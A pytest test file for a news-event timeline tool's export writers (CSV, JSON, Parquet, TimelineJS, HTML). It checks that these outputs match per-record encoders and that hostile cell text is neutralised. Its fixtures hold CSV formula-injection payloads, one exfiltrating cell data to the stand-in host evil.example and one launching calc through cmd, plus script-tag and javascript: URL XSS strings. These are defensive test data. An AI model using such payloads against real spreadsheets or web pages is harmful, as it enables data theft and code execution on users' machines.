"""The column-at-a-time writers (`nkviewer.export.cells`) write what the per-record encoders
wrote: every event as a dict (`records`), `json.dumps` of it, `csv.DictWriter` of `csv_row`."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from nkviewer.events.record import ALL_FIELDS, Event
from nkviewer.events.table import events_to_frame
from nkviewer.export import cells, data
from nkviewer.export.data import records, write_events
from nkviewer.export.stream import write_event_stream

TRICKY_TEXT = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2",
    "-2+3",
    "-12.5",
    "+3",
    "-.5e-3",
    "-١٢",  # Arabic-Indic digits: a number to Python's `\d` as to a spreadsheet
    "-1e",
    "-",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    'a "quoted", comma',
    "line\nbreak and\r\ncrlf",
    "김정은 met Putin 🇰🇵",
    "",
    "'already quoted",
    "100%s %d {}",
]


def _tricky_frame() -> pd.DataFrame:
    events = []
    for i, text in enumerate(TRICKY_TEXT):
        events.append(
            Event(
                event_id=f"ev{i:03d}",
                title=text,
                start="2019-03-14",
                end="2019-03-14",
                granularity="day",
                timex_value="2019-03-14",
                time_text=TRICKY_TEXT[-1 - i],
                time_start=-i,
                time_end=i,
                sentence=text + " in a sentence",
                sentence_start=0,
                sentence_end=40,
                doc_id=f"doc{i % 3}",
                doc_path="/corpus/a,b.txt",
                doc_title=text,
                doc_source="-12.5",
                doc_url="https://example.org/a?b=c,d",
                doc_published="2019-03-18",
                doc_published_source="manifest",
                actors=[] if i % 2 else [text, "Vladimir Putin"],
                places=["=Moscow"] if i % 3 == 0 else [],
                lane="North Korea",
                entities=[] if i % 4 else [{"text": text, "label": "PERSON", "start": 0}],
                modality="happened",
                sources=[{"doc_id": "d", "sentence_start": 0, "sentence_end": 4}],
                reported_by=["=KCNA"] if i % 5 == 0 else [],
                uncertain=bool(i % 2),
            )
        )
    frame = events_to_frame(events)
    # values a frame read back from elsewhere may hold: None, numpy arrays in list fields
    urls = [None if i % 4 == 1 else u for i, u in enumerate(frame["doc_url"])]
    places = [np.array(p, dtype=object) if i % 3 == 0 else p for i, p in enumerate(frame["places"])]
    return frame.assign(doc_url=pd.Series(urls, dtype=object), places=places)


def _old_jsonl(frame: pd.DataFrame) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records(frame))


def _old_json(frame: pd.DataFrame) -> str:
    return json.dumps(records(frame), ensure_ascii=False, indent=1) + "\n"


def _old_csv_cells(frame: pd.DataFrame) -> list[list[str]]:
    out = io.StringIO(newline="")
    cols = [c for c in ALL_FIELDS if c in frame.columns]
    writer = csv.DictWriter(out, fieldnames=cols)
    writer.writeheader()
    writer.writerows(cells.csv_row(r) for r in records(frame))
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def _cells_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.fixture(params=["tricky", "synthetic"])
def frame(request: pytest.FixtureRequest) -> pd.DataFrame:
    if request.param == "tricky":
        return _tricky_frame()
    from bench.synthetic import synthetic_frame

    return synthetic_frame(300, years=2, seed=3)


@pytest.mark.parametrize("streamed", [False, True])
def test_json_and_jsonl_are_those_of_the_records(
    frame: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, streamed: bool
) -> None:
    monkeypatch.setattr(data, "RECORD_BATCH", 7)
    for fmt, old in (("jsonl", _old_jsonl), ("json", _old_json)):
        path = tmp_path / f"e.{fmt}"
        if streamed:
            write_event_stream([frame.iloc[:10], frame.iloc[10:]], path)
        else:
            write_events(frame, path)
        assert path.read_text(encoding="utf-8") == old(frame), fmt


@pytest.mark.parametrize("streamed", [False, True])
def test_csv_has_the_cells_of_the_per_row_writer(
    frame: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, streamed: bool
) -> None:
    monkeypatch.setattr(data, "RECORD_BATCH", 7)
    path = tmp_path / "e.csv"
    if streamed:
        write_event_stream([frame.iloc[:10], frame.iloc[10:]], path)
    else:
        write_events(frame, path)
    written = _cells_of(path)
    assert written == _old_csv_cells(frame)
    raw = path.read_bytes()
    assert raw.startswith((",".join(written[0]) + "\r\n").encode())  # the header as csv wrote it
    assert raw.endswith(b"\r\n")


def test_tricky_cells_are_neutralised_as_spreadsheet_safe_says(tmp_path: Path) -> None:
    """The Arrow rule (`cells.neutralised`) and the Python one agree cell by cell."""
    import pyarrow as pa

    texts = [*TRICKY_TEXT, None, "@", "=", "+.5", "-5.", "-0x10", "-1e+5", "-٣.٥"]
    got = cells.neutralised(pa.array(texts, pa.string())).to_pylist()
    assert got == [None if t is None else cells.spreadsheet_safe(t) for t in texts]
    assert "'=HYPERLINK" in got[0] and got[4] == "-12.5" and got[7] == "-١٢"


def test_missing_and_odd_values_keep_their_json() -> None:
    """Columns the fast paths do not take (None, NaN, booleans, numpy values) are encoded as
    `json.dumps` of their records encodes them."""
    frame = _tricky_frame().head(4)
    frame = frame.assign(
        doc_title=pd.Series(["a", None, math.nan, "b"], dtype=object),
        time_start=pd.Series([1, 2, 3, 4], dtype="int64"),
        uncertain=[True, False, True, False],
        lane=pd.Series([np.int64(3), "x", 2.5, None], dtype=object),
        entities=[
            [{"a": 1.5, "b": True, "c": None, "d": [1, "x", [], {}], "e": -0.0}],
            [{3: "int key", "f": float("inf")}],
            np.array([{"g": np.int64(2)}], dtype=object),
            None,
        ],
    )
    want = [json.dumps(r, ensure_ascii=False) for r in records(frame)]
    assert cells.json_rows(frame) == want
    indented = [
        " " + json.dumps(r, ensure_ascii=False, indent=1).replace("\n", "\n ")
        for r in records(frame)
    ]
    assert cells.json_rows(frame, indented=True) == indented


@pytest.mark.parametrize("title", ["", "NK <diplomacy> & 김정은"])
@pytest.mark.parametrize("rows", [0, 1, 300])
def test_timelinejs_and_html_files_are_the_documents_written_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, title: str, rows: int
) -> None:
    """Written an event at a time, the files are `json.dump` of the whole TimelineJS document
    and the whole HTML report."""
    from bench.synthetic import synthetic_frame
    from nkviewer.export.data import html_report, timelinejs_document

    monkeypatch.setattr(data, "RECORD_BATCH", 7)
    frame = synthetic_frame(max(rows, 1), years=2, seed=4).head(rows)
    path = write_events(frame, tmp_path / "t.timeline.json", title=title, allow_empty=True)
    doc = timelinejs_document(frame, title=title)
    assert path.read_text(encoding="utf-8") == json.dumps(doc, ensure_ascii=False, indent=1) + "\n"
    assert len(doc["events"]) == rows
    page = write_events(frame, tmp_path / "r.html", title=title, allow_empty=True)
    assert page.read_text(encoding="utf-8") == html_report(frame, title=title)


@pytest.mark.parametrize("streamed", [False, True])
def test_parquet_is_the_table_of_the_records(
    frame: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, streamed: bool
) -> None:
    """Made a column at a time (`cells.arrow_table`), the table is `from_pylist` of the
    records, numpy list cells included."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    monkeypatch.setattr(data, "RECORD_BATCH", 7)
    path = tmp_path / "e.parquet"
    if streamed:
        write_event_stream([frame.iloc[:10], frame.iloc[10:]], path)
    else:
        write_events(frame, path)
    written = pq.read_table(path)
    whole = pa.Table.from_pylist(records(frame))
    assert written.schema.equals(whole.schema)
    assert written.equals(whole)


def _report_frame() -> pd.DataFrame:
    """The tricky frame, with what reports and timelines treat apart: markup and hostile
    addresses in corpus text, each granularity, ranges, merged reports, reporters as lists
    and as arrays read back from Parquet, missing outlets and titles."""
    frame = _tricky_frame()
    n = len(frame)
    grans = ["day", "week", "month", "quarter", "season", "year", "decade", "range"]
    urls = ["javascript:alert(1)", "https://example.org/<a>?b=\"c\"&d='e'", None, "file:///x"]
    return frame.assign(
        sentence=[
            f"<script>alert({i})</script> & \"q\" 'a' {t}" for i, t in enumerate(TRICKY_TEXT)
        ],
        granularity=[grans[i % len(grans)] for i in range(n)],
        start=[f"20{10 + i % 9}-0{1 + i % 9}-1{i % 10}" for i in range(n)],
        end=[f"20{10 + i % 9}-0{1 + i % 9}-1{i % 10}" if i % 3 else "2021-12-31" for i in range(n)],
        doc_url=[urls[i % len(urls)] for i in range(n)],
        doc_source=[
            None if i % 5 == 2 else ("<b>KCNA</b>" if i % 2 else "Yonhap") for i in range(n)
        ],
        doc_title=["Yonhap" if i % 4 == 0 else ("" if i % 4 == 1 else f"T{i}") for i in range(n)],
        reported_by=[
            np.array(["<i>KCNA</i>", "Rodong"], dtype=object) if i % 3 == 0 else ["A & B"] * (i % 2)
            for i in range(n)
        ],
        sources=[
            [{"doc_id": f"d{j}", "sentence_start": 0, "sentence_end": 1} for j in range(i % 3)]
            for i in range(n)
        ],
        modality=["expected" if i % 2 else "happened" for i in range(n)],
        time_text=["" if i % 3 == 0 else t for i, t in enumerate(TRICKY_TEXT)],
    )


@pytest.mark.parametrize("depth", [0, 2])
def test_timeline_and_report_texts_are_those_of_the_records(depth: int) -> None:
    """Made a column at a time, each event's TimelineJS text and HTML article are what the
    rule makes of its record (`documents.timeline_event`, `documents.html_article`)."""
    from nkviewer.export import documents

    frame = _report_frame()
    recs = records(frame)
    pad = "\n" + " " * depth
    want = [
        json.dumps(documents.timeline_event(r), ensure_ascii=False, indent=1).replace("\n", pad)
        for r in recs
    ]
    assert documents.timeline_texts(frame, depth=depth) == want
    assert documents.html_articles(frame) == [documents.html_article(r) for r in recs]
    page = "\n".join(documents.html_articles(frame))
    assert "<script>" not in page and "javascript:" not in page and "file:" not in page
    assert "&lt;script&gt;" in page and "&lt;i&gt;KCNA&lt;/i&gt;" in page


def test_timeline_and_report_files_of_the_tricky_frame(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from nkviewer.export.data import html_report, timelinejs_document

    monkeypatch.setattr(data, "RECORD_BATCH", 4)
    frame = _report_frame()
    path = write_events(frame, tmp_path / "t.timeline.json", title="<T>")
    doc = timelinejs_document(frame, title="<T>")
    assert path.read_text(encoding="utf-8") == json.dumps(doc, ensure_ascii=False, indent=1) + "\n"
    page = write_events(frame, tmp_path / "r.html", title="<T>")
    # bytes: a "\r" in corpus text stays one (read_text would make it "\n")
    assert page.read_bytes().decode("utf-8") == html_report(frame, title="<T>")
